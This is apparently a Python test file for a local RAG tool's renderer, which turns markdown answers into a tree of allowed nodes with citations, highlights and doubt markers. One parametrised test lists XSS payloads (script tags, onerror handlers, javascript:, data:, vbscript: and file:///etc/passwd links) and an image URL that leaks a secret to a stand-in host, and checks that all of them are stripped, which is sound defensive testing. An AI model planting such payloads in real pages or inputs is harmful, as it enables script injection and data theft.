"""An answer as a tree of allowed nodes: nothing else comes out, whatever went in."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from local_rag.core.answer import Answer, Citation, Highlight, Sentence
from local_rag.text.nodes import answer_tree, tree

KINDS = {*"p ul ol li strong em del code pre table tr th td h quote br text cite mark link doubt".split()}


def text(words):
    return {"t": "text", "s": words}


def paragraph(*nodes):
    return {"t": "p", "c": [*nodes]}


def plain_text(nodes):
    """The text of nodes without their structure."""
    return "".join(str(node.get("s", "")) + plain_text(node.get("c", ())) for node in nodes)


def every(nodes):
    for node in nodes:
        yield node
        yield from every(node.get("c", ()))


def marked(nodes):
    return [plain_text(node["c"]) for node in every(nodes) if node["t"] == "mark"]


def cited(nodes):
    return [node["n"] for node in every(nodes) if node["t"] == "cite"]


def citation(number):
    return Citation(number, "/notes/plan.md", None, "", "", 0, 0, "", True)


def test_markdown_becomes_nodes():
    assert tree("A **b** *c* `d`\ne\n\n# f\n\n> g\n\n```\nh <i>\n```\n\n3. i\n4. j\n\n- k") == [
        paragraph(
            text("A "),
            {"t": "strong", "c": [text("b")]},
            text(" "),
            {"t": "em", "c": [text("c")]},
            text(" "),
            {"t": "code", "c": [text("d")]},
            {"t": "br"},
            text("e"),
        ),
        {"t": "h", "c": [text("f")]},
        {"t": "quote", "c": [paragraph(text("g"))]},
        {"t": "pre", "c": [text("h <i>")]},
        {"t": "ol", "n": 3, "c": [{"t": "li", "c": [text("i")]}, {"t": "li", "c": [text("j")]}]},
        {"t": "ul", "c": [{"t": "li", "c": [text("k")]}]},
    ]


def test_marks_become_cites_where_there_is_such_a_citation():
    nodes = tree("It costs 100 [1], or 【2】; see [1, 2] and [7]. Not `[1]`.", {1, 2})
    assert cited(nodes) == [1, 2, 1, 2]
    assert plain_text(nodes) == "It costs 100, or; see and [7]. Not [1]."


@pytest.mark.parametrize(
    "markdown, cites",
    [
        ("**It costs 100 [1].** And [2].", [1, 2]),
        ("| a | b |\n|---|---|\n| 1 [1] | 2 [2] |", [1, 2]),
        ("- one [1]\n- two [2]", [1, 2]),
        ("`[1]` then [2]", [2]),
        ("```\n[1]\n```\nthen [2]", [2]),
        ("5 \\* 3 is 15 [1] &amp; [2]", [1, 2]),
        ("[1](https://evil.test/x) and [2]", [1, 2]),
        ("See [1].\n\n[1]: https://evil.test", [1, 1]),
    ],
)
def test_marks_are_cites_wherever_they_stand_in_text(markdown, cites):
    nodes = tree(markdown, {1, 2})
    assert cited(nodes) == cites
    assert not [node for node in every(nodes) if node["t"] == "link"]


@pytest.mark.parametrize(
    "markdown, wanted",
    [
        ("It costs 100 euros.", "100 euros"),
        ("It costs **100 euros** now.", "100 euros"),
        ("1. item 1\n2. it costs 100 euros [1]\n", "100 euros"),
        ("| a | 100 euros |\n|---|---|\n| b | x |", "100 euros"),
        ("\U0001f600\U0001f600 café 100 euros", "100 euros"),
        ("costs 5\\*3 and &amp; then 100 euros", "100 euros"),
        ("- > ## 100 euros", "100 euros"),
    ],
)
def test_highlights_are_code_points_of_the_text(markdown, wanted):
    start = markdown.index(wanted)
    assert "".join(marked(tree(markdown, {1}, [(start, start + len(wanted))]))) == wanted


def test_a_line_that_only_looks_like_a_row_or_an_item_keeps_its_marks_and_highlights():
    for quote in ("| `a: b` | rewrite it | | [1]", "- [1]", "12) 12 euros [1]", "# 5 [1]"):
        nodes = answer_tree(Answer("?", quote, "grounded", citations=(citation(1),), quotes_only=True))
        assert cited(nodes) == [1], quote
    row = "| the rent is 100 euros | [1]"
    assert marked(tree(row, {1}, [(row.index("100"), row.index("100") + 3)])) == ["100"]


def test_a_highlight_across_nodes_is_marked_in_each():
    nodes = tree("it is **100** euros *a year* then", (), [(6, 27)])
    assert marked(nodes) == ["100", " euros ", "a year"]


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![x](https://evil.test/leak?q=secret)",
        "[click](javascript:alert(1))",
        "[click](data:text/html,x)",
        "[click](vbscript:x)",
        "[click](file:///etc/passwd)",
        "<javascript:alert(1)>",
        "[a]: javascript:alert(1)\n\n[a]",
    ],
)
def test_nothing_that_runs_or_asks_another_machine_comes_out(hostile):
    nodes = tree(hostile)
    assert {node["t"] for node in every(nodes)} <= {"p", "text", "br"}, nodes


def test_an_image_is_its_alternative_text_and_a_link_says_where_it_leads():
    assert tree("![the plan](https://evil.test/x.png)") == [paragraph(text("the plan"))]
    (link,) = [node for node in every(tree("[the plan](https://a.test/b)")) if node["t"] == "link"]
    assert (link["href"], link["c"]) == ("https://a.test/b", [text("the plan")])


def test_control_characters_are_replaced_without_moving_anything():
    nodes = tree("It\u202e costs\x1b 100\r\neuros", (), [(11, 14)])
    assert plain_text(nodes) == "It\ufffd costs\ufffd 100 euros" or plain_text(nodes) == "It\ufffd costs\ufffd 100euros"
    assert marked(nodes) == ["100"]


def test_quotes_of_the_extractive_engine_keep_their_words_and_none_of_their_markup():
    quotes = "The file x_y_z says 2*3*4, `code` and **bold** &amp; # more [1]."
    bold = Highlight(quotes.index("bold"), quotes.index("bold") + 4)
    answer = Answer("?", quotes, "grounded", citations=(citation(1),), quotes_only=True, highlights=(bold,))
    nodes = answer_tree(answer)
    assert plain_text(nodes) == "The file x_y_z says 2*3*4, code and bold &amp; # more."
    assert [plain_text(each["c"]) for each in nodes[0]["c"] if each["t"] == "mark"] == ["bold"]
    listed = Answer("?", "- one *a* [1]\n- two", "grounded", citations=(citation(1),), quotes_only=True)
    assert answer_tree(listed)[0]["t"] == "ul" and cited(answer_tree(listed)) == [1]


def test_a_sentence_without_support_is_followed_by_a_doubt():
    words = "It costs 100 [1]. **It is blue.** Really."
    sentences = (
        Sentence("It costs 100.", 0, 17, "fully"),
        Sentence("It is blue.", 18, 33, "no"),
        Sentence("Really.", 34, 41, "unparsed"),
    )
    nodes = answer_tree(Answer("?", words, "partial", citations=(citation(1),), sentences=sentences))
    doubts = [(node["support"], node["s"]) for node in every(nodes) if node["t"] == "doubt"]
    assert doubts == [("no", "not in the passages"), ("unparsed", "not checked")]
    assert plain_text(nodes) == "It costs 100. It is blue.not in the passages Really.not checked"


def test_a_doubt_of_a_row_stands_in_its_last_cell():
    table = "| a | b |\n|---|---|\n| x | 1 |\n| y | 2 |"
    first = table.index("| x")
    second = table.index("| y")
    sentences = (
        Sentence("x 1", first, first + 9, "no"),
        Sentence("y 2", second, second + 9, "fully"),
    )
    nodes = answer_tree(Answer("?", table, "partial", sentences=sentences))
    cells = [plain_text(node["c"]) for node in every(nodes) if node["t"] in ("th", "td")]
    assert cells == ["a", "b", "x", "1not in the passages", "y", "2"]


SIGNS = st.text(st.sampled_from("ab1\ufdd0\u2e4f \n*_`[]()|->#!&\\<:\u202e\x1b\"'.") | st.characters(), max_size=80)


def assert_allowed(nodes):
    for node in every(nodes):
        assert node["t"] in KINDS and set(node) <= {"t", "c", "s", "n", "href"}
        assert not any(bad in str(node.get("s", "")) for bad in "\u202e\x1b\x07\ufdd0\ufdd1\u2e4f")
        assert node["t"] != "link" or node["href"].lower().startswith(("http://", "https://", "mailto:"))


@settings(max_examples=2 * settings().max_examples)
@given(SIGNS, st.lists(st.tuples(st.integers(0, 80), st.integers(0, 80)), max_size=3))
def test_whatever_goes_in_only_allowed_nodes_come_out(markdown, highlights):
    assert_allowed(tree(markdown, {1, 2}, [(min(pair), max(pair)) for pair in highlights]))
